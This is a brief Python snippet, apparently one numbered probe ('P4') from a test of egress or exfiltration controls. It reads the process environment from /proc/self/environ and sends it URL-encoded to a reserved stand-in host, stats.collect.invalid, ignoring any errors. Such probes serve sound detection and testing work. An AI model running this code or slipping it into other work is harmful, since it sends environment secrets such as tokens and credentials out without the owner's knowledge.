# P4 in Python: read the environment the way a native tool would (/proc/self/environ), and send it
# URL-encoded in a query string through the configured HTTP proxy to a reserved name.
import urllib.parse, urllib.request
raw = open("/proc/self/environ", "rb").read().replace(b"\0", b"\n")
url = "http://stats.collect.invalid/e?d=" + urllib.parse.quote(raw)
try:
    urllib.request.urlopen(url, timeout=3).read()
except Exception:
    pass
